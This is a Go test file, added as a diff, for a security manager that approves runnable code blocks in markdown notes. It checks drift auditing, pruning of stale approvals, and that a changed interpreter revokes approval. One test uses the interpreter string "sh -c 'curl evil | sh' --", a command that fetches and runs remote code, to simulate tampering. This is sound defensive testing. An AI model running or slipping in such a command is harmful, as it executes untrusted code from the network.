@@ -0,0 +1,173 @@
+package eval
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestAuditAndPrune(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("HOME", dir)
+	if err := os.MkdirAll(filepath.Join(dir, ".jot"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(dir)
+
+	ops := filepath.Join(dir, "ops.md")
+	gone := filepath.Join(dir, "gone.md")
+	content := "# Ops\n\n" +
+		"<eval name=\"steady\" />\n```bash\necho steady\n```\n\n" +
+		"<eval name=\"edited\" />\n```bash\necho before\n```\n\n" +
+		"<eval name=\"removed\" />\n```bash\necho removed\n```\n\n" +
+		"<eval name=\"loose\" />\n```bash\necho loose\n```\n"
+	for _, path := range []string{ops, gone} {
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	sm, err := NewSecurityManager()
+	if err != nil {
+		t.Fatal(err)
+	}
+	blocks, err := ParseMarkdownForEvalBlocks(ops)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, b := range blocks {
+		mode := ApprovalModeHash
+		if b.Eval.GetName() == "loose" {
+			mode = ApprovalModeAlways
+		}
+		if err := sm.ApproveBlock(ops, b, mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := sm.ApproveBlock(gone, blocks[0], ApprovalModeHash); err != nil {
+		t.Fatal(err)
+	}
+	if err := sm.ApproveDocument(gone, ApprovalModePrompt); err != nil {
+		t.Fatal(err)
+	}
+
+	edited := strings.Replace(content, "echo before", "echo after", 1)
+	edited = strings.Replace(edited, "<eval name=\"removed\" />\n```bash\necho removed\n```\n\n", "", 1)
+	if err := os.WriteFile(ops, []byte(edited), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(gone); err != nil {
+		t.Fatal(err)
+	}
+
+	kinds := map[string]string{}
+	for _, d := range sm.Audit() {
+		kinds[filepath.Base(d.FilePath)+":"+d.BlockName] = d.Kind
+	}
+	want := map[string]string{
+		"ops.md:edited":  DriftChanged,
+		"ops.md:removed": DriftMissingBlock,
+		"ops.md:loose":   DriftAlways,
+		"gone.md:steady": DriftMissingFile,
+		"gone.md:":       DriftMissingFile,
+	}
+	if len(kinds) != len(want) {
+		t.Errorf("audit found %v, want %v", kinds, want)
+	}
+	for key, kind := range want {
+		if kinds[key] != kind {
+			t.Errorf("%s: got %q, want %q", key, kinds[key], kind)
+		}
+	}
+
+	inventory := map[string]ApprovedCode{}
+	for _, item := range sm.Inventory() {
+		inventory[filepath.Base(item.FilePath)+":"+item.BlockName] = item
+	}
+	if len(inventory) != 6 {
+		t.Errorf("inventory has %d approvals, want 6", len(inventory))
+	}
+	if item := inventory["ops.md:steady"]; item.State != StatusCurrent || item.CurrentHash != item.Hash {
+		t.Errorf("steady = %+v, want current", item)
+	}
+	if item := inventory["ops.md:edited"]; item.State != DriftChanged || item.ApprovedCode != "echo before" || item.CurrentCode != "echo after" {
+		t.Errorf("edited = %+v, want changed from echo before to echo after", item)
+	}
+	if item := inventory["ops.md:removed"]; item.State != DriftMissingBlock || item.CurrentCode != "" {
+		t.Errorf("removed = %+v, want a missing block", item)
+	}
+	if item := inventory["gone.md:"]; item.State != DriftMissingFile || item.Mode != ApprovalModePrompt {
+		t.Errorf("gone.md document = %+v, want a missing file", item)
+	}
+
+	removed, err := sm.Prune()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if removed != 3 {
+		t.Errorf("pruned %d approvals, want 3", removed)
+	}
+
+	reloaded, err := NewSecurityManager()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, d := range reloaded.Audit() {
+		if d.Dead() {
+			t.Errorf("dead approval survived pruning: %+v", d)
+		}
+	}
+	if approved, err := reloaded.CheckApproval(ops, blocks[0]); err != nil || !approved {
+		t.Errorf("live approval for steady was pruned")
+	}
+}
+
+func TestInterpreterChangeNeedsApproval(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("HOME", dir)
+	if err := os.MkdirAll(filepath.Join(dir, ".jot"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(dir)
+
+	setInterpreter := func(command string) *SecurityManager {
+		t.Helper()
+		config := `{"eval": {"interpreters": {"python": "` + command + `"}}}`
+		if err := os.WriteFile(filepath.Join(dir, ".jot", "config.json"), []byte(config), 0644); err != nil {
+			t.Fatal(err)
+		}
+		sm, err := NewSecurityManager()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return sm
+	}
+
+	note := filepath.Join(dir, "calc.md")
+	content := "# Calc\n\n<eval name=\"sum\" />\n```python\nprint(1 + 1)\n```\n"
+	if err := os.WriteFile(note, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	blocks, err := ParseMarkdownForEvalBlocks(note)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	sm := setInterpreter("python3 -")
+	if err := sm.ApproveBlock(note, blocks[0], ApprovalModeHash); err != nil {
+		t.Fatal(err)
+	}
+	if approved, err := setInterpreter("python3 -").CheckApproval(note, blocks[0]); err != nil || !approved {
+		t.Errorf("approval with the same interpreter = %v, %v; want approved", approved, err)
+	}
+
+	sm = setInterpreter("sh -c 'curl evil | sh' --")
+	if approved, err := sm.CheckApproval(note, blocks[0]); err != nil || approved {
+		t.Errorf("approval after the interpreter changed = %v, %v; want not approved", approved, err)
+	}
+	items := sm.Inventory()
+	if len(items) != 1 || items[0].State != DriftChanged || items[0].Interpreter != "python3 -" || items[0].CurrentInterpreter != "sh -c 'curl evil | sh' --" {
+		t.Errorf("inventory = %+v, want a change of interpreter", items)
+	}
+}